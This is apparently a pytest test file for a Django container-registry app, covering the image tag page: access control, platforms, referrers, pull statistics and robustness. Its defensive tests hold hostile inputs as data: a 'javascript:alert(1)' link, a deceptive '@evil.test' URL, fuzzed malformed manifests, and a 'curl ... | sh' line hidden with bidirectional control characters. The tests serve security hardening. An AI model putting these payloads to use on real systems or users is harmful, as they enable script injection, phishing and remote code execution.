"""The page of a tag: what it is, who pulled it, and what is hung onto it."""

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from django.test import Client
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings

from namespaces.manifests.pull_stats import SHOWN_MAX
from namespaces.models import NEVER, Image, Manifest, PullStats, RepositoryManifest, TagHistoryEntry
from tests import factories
from tests.cast import MEMBERS, Cast
from tests.django.namespaces import things
from tests.django.namespaces.things import EVIL
from tests.unit.test_parser import SHAPED

AT = "/a/team-red/n/team/i/deep/app/-/"
API = "/api/v1/accounts/team-red/namespaces/team/images/deep/app/-/tags/1.0/"

WHERE = {"address": "192.0.2.9", "client": "docker/27"}
NOW = datetime(2026, 1, 2, tzinfo=UTC)
CONFIG = things.image_config("COPY a /", "RUN b", Env=["PATH=/bin", "TOKEN=<b>"], Entrypoint=["/app"], User="1000",
                             ExposedPorts={"80/tcp": {}}, WorkingDir="/srv",
                             Labels={"items": "x", "a": "b"})  # fmt: skip


@pytest.fixture
def image(cast: Cast) -> Image:
    made: Image = factories.ImageFactory(
        namespace__account=cast.account, namespace__name="team", name="deep/app"
    )
    return made


@pytest.fixture
def viewer(cast: Cast) -> Client:
    return cast.client("viewer")


TABS = ("overview", "layers", "configuration", "referrers", "pulls")


def page(client: Client, name: str = "overview", tag: str = "1.0", **query: str) -> Any:
    """Return the answer for one tab of the page."""
    answer = client.get(f"{AT}tags/{tag}/", {"tab": name, **query})
    assert answer.status_code == 200
    return answer


def all_tabs(client: Client, tag: str = "1.0") -> str:
    return "".join(page(client, name, tag).content.decode() for name in TABS)


@pytest.mark.parametrize("who", MEMBERS)
def test_members_see_all_of_it(cast: Cast, image: Image, who: str) -> None:
    made = things.put(image, things.image_document("a", "b"), config=CONFIG, tag="1.0", created_at=NOW)
    text = all_tabs(cast.client(who))
    for each in (made.digest, "linux/amd64",
                 "COPY a /", "RUN b", "PATH=/bin", "TOKEN=&lt;b&gt;", "80/tcp", "/srv", "1000", "items",
                 "docker pull", "podman pull", "skopeo copy", "crane pull", f"deep/app@{made.digest}"):  # fmt: skip
        assert each in text


@pytest.mark.parametrize(("who", "status"), [("stranger", 404), ("anonymous", 302)])
def test_nobody_else_does(cast: Cast, image: Image, who: str, status: int) -> None:
    things.put(image, things.image_document("a"), tag="1.0")
    assert cast.client(who).get(f"{AT}tags/1.0/").status_code == status


def test_an_operator_who_is_no_member_does_not(image: Image, operator: Any) -> None:
    things.put(image, things.image_document("a"), tag="1.0")
    client = Client()
    client.force_login(operator)
    assert client.get(f"{AT}tags/1.0/").status_code == 404


def test_each_platform_of_an_index_can_be_chosen(image: Image, viewer: Client) -> None:
    def put(architecture: str) -> Manifest:
        config = things.image_config(f"RUN {architecture}", architecture=architecture)
        return things.put(image, things.image_document(architecture), config=config)

    made = [(put(each), f"linux/{each}") for each in ("386", "amd64", "arm64")]
    things.put(image, things.index_document(*made, annotations={"of": "index"}), tag="1.0")

    def commands(**query: str) -> list[str]:
        return [layer.command for layer in page(viewer, "layers", **query).context["details"].layers]

    assert commands() == ["RUN amd64"]
    assert commands(platform="linux/arm64") == ["RUN arm64"]
    assert commands(platform=made[0][0].digest) == ["RUN 386"]
    assert commands(platform="plan9/pdp11") == ["RUN amd64"]
    assert page(viewer, "configuration").context["index_annotations"] == (("of", "index"),)


def test_another_images_manifest_is_not_shown_by_its_digest(cast: Cast, image: Image, viewer: Client) -> None:
    theirs = factories.ImageFactory(namespace__account=cast.elsewhere)
    hidden = things.put(theirs, things.image_document("secret"), config=things.image_config("RUN secret"))
    things.put(image, things.index_document((hidden, "linux/amd64")), tag="1.0")
    shown = page(viewer)
    assert "RUN secret" not in all_tabs(viewer)
    assert (shown.context["shown"], len(shown.context["platforms"])) == (None, 1)
    assert viewer.get(f"{AT}manifests/{hidden.digest}/").status_code == 404
    assert viewer.get(f"{AT}manifests/{hidden.digest}/download/").status_code == 404
    # Nor does naming its digest bring what is hung onto it, or make it hang onto ours.
    ours = things.put(image, things.image_document("ours"), tag="ours")
    things.put(theirs, things.image_document("x", subject={"digest": ours.digest}, artifactType="a/b"))
    assert page(viewer, tag="ours").context["referrers"] == []


def test_a_platform_named_twice_is_told_apart_by_digest(image: Image, viewer: Client) -> None:
    made = [things.put(image, things.image_document(each)) for each in "ab"]
    things.put(image, things.index_document(*((each, "windows/amd64") for each in made)), tag="1.0")
    assert [each.key for each in page(viewer).context["platforms"]] == [each.digest for each in made]


def test_what_is_hung_onto_it_in_each_of_four_ways(image: Image, viewer: Client) -> None:
    child = things.put(image, things.image_document("a"))
    attestation = things.put(image, things.image_document("b"))
    document = things.index_document((child, "linux/amd64"))
    hung = {"vnd.docker.reference.type": "attestation-manifest", "vnd.docker.reference.digest": child.digest}
    document["manifests"].append({"digest": attestation.digest, "annotations": hung})
    top = things.put(image, document, tag="1.0")
    named = top.digest.replace(":", "-")
    signature = things.put(image, things.image_document("sig"), tag=f"{named}.sig")
    sbom = things.put(
        image, things.image_document("bom", artifactType="application/spdx+json", config_type="x")
    )
    things.put(image, things.index_document((sbom, "")), tag=named)
    direct = things.put(
        image,
        things.image_document(
            "d",
            subject={"digest": top.digest},
            config_type="x",
            artifactType="application/vnd.cyclonedx+json",
        ),
    )
    found = {
        each.digest: (each.artifact_kind.label, each.subject) for each in page(viewer).context["referrers"]
    }
    assert found == {
        attestation.digest: ("Image", child.digest),
        signature.digest: ("cosign signature", top.digest),
        sbom.digest: ("SPDX SBOM", top.digest),
        direct.digest: ("CycloneDX SBOM", top.digest),
    }
    RepositoryManifest.objects.filter(manifest=direct).update(gone_at=NOW)
    assert direct.digest not in {each.digest for each in page(viewer).context["referrers"]}


def test_an_artifact_of_a_type_that_nobody_knows_tells_its_type(image: Image, viewer: Client) -> None:
    top = things.put(image, things.image_document("a"), tag="1.0")
    scan = {"artifactType": "application/vnd.example.scan", "config_type": "x"}
    things.put(image, things.image_document("s", subject={"digest": top.digest}, **scan))
    things.put(
        image,
        things.image_document(
            "b", subject={"digest": top.digest}, artifactType="application/spdx+json", config_type="x"
        ),
    )
    text = page(viewer, "referrers").content.decode()
    assert "application/vnd.example.scan" in text
    assert "application/spdx+json" not in text


def test_an_index_of_what_is_for_no_platform_lists_what_it_holds(image: Image, viewer: Client) -> None:
    files = things.put(
        image, things.image_document("f", artifactType="application/vnd.wasm.x", config_type="x")
    )
    things.put(image, things.index_document((files, "")), tag="1.0")
    shown = page(viewer, "referrers")
    assert shown.context["artifact_kind"].label == "OCI index"
    assert [each.artifact_kind.label for each in shown.context["referrers"]] == ["WASM module"]
    text = shown.content.decode()
    assert "Listed here" in text
    assert "docker pull" not in all_tabs(viewer)


def test_a_signature_whose_subject_is_gone_says_so(image: Image, viewer: Client) -> None:
    name = "sha256-" + "c" * 64 + ".sig"
    things.put(image, things.image_document("sig"), tag=name)
    shown = page(viewer, tag=name)
    assert shown.context["subject"].manifest is None
    assert "not in this image" in shown.content.decode()


def test_who_pushed_and_who_pulled(cast: Cast, image: Image, viewer: Client) -> None:
    user = factories.RegistryUserFactory(account=cast.account, description="CI deploy")
    made = things.put(image, things.image_document("a"))
    tag = things.point(image, "1.0", made)
    tag.pushed_by, tag.pull_count, tag.pulled_at = user.username, 7, NOW
    tag.save()
    PullStats.objects.create(
        image=image,
        tag="1.0",
        username=user.username,
        count=5,
        last_at=NOW,
        address="192.0.2.9",
        client="docker/27",
    )
    PullStats.objects.create(image=image, tag="1.0", username="", count=2, last_at=NOW)
    PullStats.objects.create(image=image, digest=made.digest, username=user.username, count=3, last_at=NOW)
    PullStats.objects.create(image=image, tag="other", username=user.username, count=99, last_at=NOW)
    PullStats.objects.create(
        image=image, tag="1.0", username="watcherwatch", last_at=NEVER, checks=41, checked_at=NOW
    )
    shown = page(viewer, "pulls")
    assert shown.context["pusher"] == "CI deploy"
    assert [(each.count, each.checks, each.user) for each in shown.context["pullers"]] == [
        (5, 0, user),
        (2, 0, None),
        (0, 41, None),
    ]
    assert "41 checks" in shown.content.decode()
    assert "only checked" in shown.content.decode()
    assert shown.context["by_digest"].count == 3
    for each in ("CI deploy", user.username, "192.0.2.9", "docker/27", "anonymous"):
        assert each in shown.content.decode()
    assert "7 times" in page(viewer).content.decode()
    assert "99" not in [str(each.count) for each in shown.context["pullers"]]


@pytest.mark.parametrize("more", [0, 1])
def test_that_there_are_more_pullers_than_are_shown_is_said(image: Image, viewer: Client, more: int) -> None:
    factories.TagFactory(image=image, name="1.0")
    for number in range(SHOWN_MAX + more):
        PullStats.objects.create(image=image, tag="1.0", username=f"user{number}", last_at=NOW, count=1)
    shown = page(viewer, "pulls")
    assert len(shown.context["pullers"]) == SHOWN_MAX
    assert ("Only the latest 50" in shown.content.decode()) is bool(more)


@pytest.mark.parametrize("public", [True, False])
def test_a_user_of_another_account_is_not_named(
    cast: Cast, image: Image, viewer: Client, public: bool
) -> None:
    image.namespace.public = public
    image.namespace.save()
    foreign = factories.RegistryUserFactory(account=cast.elsewhere)
    things.put(image, things.image_document("a"), tag="1.0")
    PullStats.objects.create(
        image=image,
        tag="1.0",
        username=foreign.username,
        count=5,
        last_at=NOW,
        address="192.0.2.9",
        client="docker/27",
    )
    text = page(viewer, "pulls").content.decode()
    assert "a user of another account" in text
    assert foreign.username not in all_tabs(viewer)
    assert "192.0.2.9" not in text
    PullStats.objects.update(username="deletedlongago")
    assert ("deletedlongago" in page(viewer, "pulls").content.decode()) is not public


def test_before_and_now_is_offered_once_it_moved(image: Image, viewer: Client) -> None:
    old = things.put(image, things.image_document("a"))
    new = things.put(image, things.image_document("b"), tag="1.0")
    TagHistoryEntry.objects.create(image=image, tag="1.0", new=old.digest, how="found")
    assert "compare with the image before" not in page(viewer).content.decode()
    TagHistoryEntry.objects.create(image=image, tag="1.0", old=old.digest, new=new.digest, how="event")
    assert f"?left={old.digest.replace(':', '%3A')}&amp;right=1.0" in page(viewer).content.decode()


def test_links_are_only_what_is_safe_to_follow(image: Image, viewer: Client) -> None:
    key = "org.opencontainers.image."
    notes = {
        f"{key}source": "https://example.com/x?a=b&c=d",
        f"{key}url": "javascript:alert(1)",
        f"{key}documentation": "https://good.example@evil.test/",
        f"{key}vendor": EVIL,
    }
    things.put(image, things.image_document("a", annotations=notes), tag="1.0")
    text = page(viewer).content.decode()
    assert 'href="https://example.com/x?a=b&amp;c=d" rel="noopener noreferrer nofollow"' in text
    assert 'href="javascript' not in text
    assert 'href="https://good' not in text
    assert EVIL not in text


def hostile() -> list[Any]:
    long = EVIL * 200
    deep: Any = EVIL
    for _level in range(200):
        deep = {"manifests": [deep]}
    title = {"org.opencontainers.image.title": EVIL}
    hung = {"vnd.docker.reference.type": "attestation-manifest", "vnd.docker.reference.digest": EVIL}
    layer = {"mediaType": long, "digest": "sha256:" + "a" * 64, "size": 2**53}
    children = [
        {"digest": f"sha256:{n:064x}", "platform": {"os": long, "architecture": str(n)}} for n in range(300)
    ]
    return [
        b"",
        b"[" * 100_000,
        b"\xff\x00" * 100,
        EVIL.encode(),
        b"null",
        b"[]",
        b'{"a":1e999}',
        {"layers": [EVIL, 1, None, {}], "config": EVIL, "annotations": [EVIL], "subject": EVIL},
        {"layers": [{"digest": EVIL, "size": -1, "mediaType": {}, "annotations": title}], "artifactType": EVIL,
         "config": {"mediaType": EVIL, "digest": "../../x"}, "annotations": {EVIL: EVIL, "items": "x", "": ""}},
        {"manifests": [{"digest": EVIL, "platform": {"os": EVIL}}, {"digest": "a/b"}, {}, 5, None],
         "annotations": {"items": EVIL}},
        {"manifests": [{"digest": "x", "annotations": hung}, {**children[0], "annotations": hung}]},
        {"manifests": [], "layers": []},
        {"manifests": {}},
        deep,
        {"layers": [layer] * 300, "config": {}, "annotations": {str(n): long for n in range(300)}},
        {"manifests": children},
    ]  # fmt: skip


@pytest.mark.parametrize("document", hostile())
def test_nothing_that_is_pushed_breaks_a_page(image: Image, viewer: Client, document: Any) -> None:
    config = {"os": EVIL, "created": EVIL, "history": [EVIL, {"created_by": EVIL}], "config": {
        "Env": [EVIL, 5, None], "Entrypoint": EVIL, "Cmd": {EVIL: 1},
        "Labels": {"items": EVIL, "keys": EVIL, EVIL: EVIL},
        "ExposedPorts": {"\x00": 1, "\ud800": 2, EVIL: {}}, "User": {"a": 1}, "WorkingDir": 7}}  # fmt: skip
    made = things.put(image, document, config=config, tag="1.0")
    pages = [
        f"{path}?tab={name}" for path in ("tags/1.0/", f"manifests/{made.digest}/") for name in (*TABS, "raw")
    ]
    for path in (*pages, f"compare/?left=1.0&right={made.digest}"):
        answer = viewer.get(AT + path)
        assert answer.status_code == 200
        assert EVIL not in answer.content.decode()
    assert viewer.get(API).status_code == 200


@hypothesis_settings(
    max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None
)
@given(document=SHAPED, config=SHAPED)
def test_no_json_breaks_a_page(image: Image, viewer: Client, document: Any, config: Any) -> None:
    body = json.dumps(document).encode()
    if Manifest.objects.filter(digest=things.digest_of(body)).exists():
        return
    made = things.put(image, body, config=config)
    image.tags.all().delete()
    things.point(image, "1.0", made)
    all_tabs(viewer)
    for name in ("overview", "raw"):
        assert viewer.get(f"{AT}manifests/{made.digest}/?tab={name}").status_code == 200


def test_200_layers_and_127_platforms(image: Image, viewer: Client) -> None:
    layers = [str(number) for number in range(200)]
    commands = [f"RUN {number} {'x' * 1500}" for number in range(200)]
    made = []
    for number in range(127):
        document = things.image_document(*(layers if number == 5 else ["a"]), annotations={"n": str(number)})
        config = things.image_config(*commands, architecture=f"a{number}")
        made.append((things.put(image, document, config=config), f"linux/a{number}"))
    things.put(image, things.index_document(*made), tag="1.0")
    shown = page(viewer, "layers", platform="linux/a5")
    assert len(shown.context["platforms"]) == 127
    assert len(shown.context["details"].layers) == 200


def test_the_page_asks_the_database_no_more_for_more(
    image: Image, viewer: Client, django_assert_max_num_queries: Any
) -> None:
    made = [(things.put(image, things.image_document(str(n))), f"linux/a{n}") for n in range(100)]
    top = things.put(image, things.index_document(*made), tag="1.0")
    for number in range(50):
        things.put(image, things.image_document(f"s{number}", subject={"digest": top.digest}))
    with django_assert_max_num_queries(25):
        assert len(page(viewer).context["referrers"]) == 50


def test_what_turns_the_direction_of_reading_is_made_to_be_seen(image: Image, viewer: Client) -> None:
    turned, kept = "curl \u202egnp.live\u2066 | sh", "naïve\n\t日本語 \U0001f600"
    labels = {"k\u200bey": turned, "words": kept}
    config = things.image_config(turned, Labels=labels, Env=[f"A={turned}"])
    notes = {"org.opencontainers.image.vendor": turned}
    things.put(image, things.image_document("a", annotations=notes), config=config, tag="1.0")
    text = all_tabs(viewer)
    for hidden in "\u202e\u2066\u200b":
        assert hidden not in text
    assert text.count(r"curl \u202egnp.live\u2066 | sh") >= 4
    assert r"k\u200bey" in text
    assert kept in text


def test_a_list_calls_it_what_its_page_calls_it(viewer: Client, image: Image) -> None:
    manifest = factories.ManifestFactory(
        kind="unknown", media_type="application/vnd.docker.distribution.manifest.v1+prettyjws", platforms=[]
    )
    factories.TagFactory(image=image, name="1.0", manifest=manifest)
    words = page(viewer).context["artifact_kind"].label
    assert words == "Docker image, schema 1"
    assert words in viewer.get(image.get_absolute_url()).content.decode()


@pytest.mark.parametrize(
    ("document", "names"),
    [
        (things.image_document("a"), list(TABS)),
        ({"manifests": []}, ["overview", "pulls"]),
        (
            things.image_document("b", artifactType="application/vnd.wasm.x", config_type="x"),
            ["overview", "layers", "pulls"],
        ),
    ],
)
def test_the_tabs_are_those_that_hold_something(
    image: Image, viewer: Client, document: Any, names: list[str]
) -> None:
    things.put(image, document, tag="1.0")
    shown = page(viewer)
    links = [each["url"] for each in shown.context["subtabs"]]
    assert links == [f"?tab={name}" for name in names]
    for name, link in zip(names, links, strict=True):
        answer = viewer.get(f"{AT}tags/1.0/{link}")
        assert answer.context["tab"] == name
        assert [each["current"] for each in answer.context["subtabs"]].count(True) == 1


@pytest.mark.parametrize("asked", ["", "raw", "Layers", "x" * 3000, "\x00"])
def test_a_tab_that_there_is_not_is_the_overview(image: Image, viewer: Client, asked: str) -> None:
    things.put(image, things.image_document("a"), tag="1.0")
    assert page(viewer, asked).context["tab"] == "overview"


def test_the_chosen_platform_is_kept_from_tab_to_tab(image: Image, viewer: Client) -> None:
    made = [(things.put(image, things.image_document(each)), f"linux/{each}") for each in ("amd64", "arm64")]
    things.put(image, things.index_document(*made), tag="1.0")
    shown = page(viewer, "layers", platform="linux/arm64")
    assert "?tab=configuration&platform=linux%2Farm64" in [each["url"] for each in shown.context["subtabs"]]
    assert "platform" not in page(viewer, "layers").context["subtabs"][0]["url"]
